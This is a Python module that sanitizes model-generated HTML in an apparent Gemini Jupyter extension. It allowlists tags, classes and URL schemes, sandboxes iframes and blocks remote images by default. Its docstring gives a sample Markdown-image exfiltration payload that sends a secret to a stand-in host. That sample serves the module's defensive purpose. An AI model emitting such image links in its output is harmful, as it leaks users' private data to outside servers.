"""The one HTML sanitizer every renderer goes through (nh3, the ammonia sanitizer).

Model output is untrusted: no scripts, no event handlers, no forms, no ``style`` attributes beyond
table alignment and colours, no ``<style>`` but our own stylesheet (kept only when its text is
exactly what ``_theme.stylesheet`` writes), ``class`` only from our list of class names (Pygments'
token classes on ``span``), and links/images only with http(s) or mailto URLs (relative
URLs are dropped too: in JupyterLab they would reach the server's own API). Sanitizing is the last
step of every HTML path: renderers assemble their whole fragment, then call :func:`sanitize`, and
nothing is spliced in after it.

The only iframe that survives is Google's Search Suggestions chip: ``srcdoc`` only (never ``src``),
and its ``sandbox`` is forced to a value without ``allow-scripts`` or ``allow-same-origin``, so even
an iframe smuggled in some other way could not run code.

Remote images load only when :data:`policy` allows them (``GeminiMagic.remote_images``): an image
URL in model text is an exfiltration channel (``![x](https://host/?d=SECRET)``), so by default the
Markdown renderer shows them as links and the sanitizer drops any ``<img>`` that is left. nh3 is
imported on first use.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

__all__ = ["IFRAME_SANDBOX", "RenderPolicy", "policy", "sanitize"]

_SAFE_URL = ("http://", "https://", "mailto:")
_URL_ATTRIBUTES = {"href", "src", "cite", "srcset", "longdesc", "action", "background"}
IFRAME_SANDBOX = "allow-popups allow-popups-to-escape-sandbox"


@dataclass
class RenderPolicy:
    """Rendering choices the user configures (``%config GeminiMagic.remote_images = True``)."""

    remote_images: bool = False


policy = RenderPolicy()
_cleaners: dict[bool, Any] = {}


def sanitize(fragment: str) -> str:
    """Strip everything unsafe from an HTML fragment (shared by all renderers)."""
    images = policy.remote_images
    cleaner = _cleaners.get(images)
    if cleaner is None:
        cleaner = _cleaners[images] = _make_cleaner(images)
    sheets: list[str] = []
    if "<style>" in fragment:
        from ._theme import is_ours

        def take(match: re.Match[str]) -> str:
            if not is_ours(match.group(1)):
                return match.group(0)  # nh3 drops it, content and all
            sheets.append(match.group(0))
            return ""

        fragment = _STYLE.sub(take, fragment)
    return "".join(dict.fromkeys(sheets)) + str(cleaner.clean(fragment))


_STYLE = re.compile(r"<style>([^<]*)</style>")  # our CSS holds no "<"; [^<] keeps a flood of "<style>" linear


def _make_cleaner(images: bool) -> Any:
    import nh3

    from ._theme import TOKEN_CLASSES

    attributes = {
        "a": {"href", "title"},
        "img": {"src", "alt", "title", "width", "height"},
        "td": {"style", "colspan", "rowspan"},
        "th": {"style", "colspan", "rowspan"},
        "ol": {"start"},
        "details": {"open"},
        "abbr": {"title"},
        "span": {"style"},  # colours (only the properties below survive)
        "iframe": {"srcdoc", "title", "style"},
        "audio": {"controls", "src"},  # our speech player: src only as data:audio/…;base64 (see below)
    }
    tags = (set(nh3.ALLOWED_TAGS) - {"map", "area"}) | {"iframe", "audio"}
    if not images:
        tags.discard("img")
    return nh3.Cleaner(
        tags=tags,
        clean_content_tags={"script", "style"},
        attributes=attributes,
        attribute_filter=_safe_attribute,
        url_schemes={"http", "https", "mailto", "data"},  # data: only where _safe_attribute allows it
        filter_style_properties={"text-align", "color", "font-style", "font-weight", "width", "height", "border"},
        allowed_classes={
            "div": {"gemini-magic", "gm-sources"},
            "sup": {"gm-cite"},
            "iframe": {"gm-search-suggestions"},
            "p": {"gm-search-links"},
            "span": TOKEN_CLASSES,
            "code": {"gm-hl"},
            "a": {"gm-remote-image"},
        },
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values={
            "a": {"target": "_blank"},
            "iframe": {"sandbox": IFRAME_SANDBOX, "referrerpolicy": "no-referrer"},
        },
    )


_AUDIO_DATA = re.compile(r"data:audio/[a-z0-9.+-]{1,40};base64,[A-Za-z0-9+/]*={0,2}")


def _safe_attribute(tag: str, attribute: str, value: str) -> str | None:
    """Drop URLs that are relative or use any scheme but http(s)/mailto; an ``<audio>`` plays only
    sound held in the page itself (``data:audio/…;base64``: no request leaves, nothing runs)."""
    if tag == "audio":
        if attribute == "controls":
            return ""
        return value if attribute == "src" and _AUDIO_DATA.fullmatch(value) else None
    if attribute in _URL_ATTRIBUTES and not value.strip().lower().startswith(_SAFE_URL):
        return None
    return value
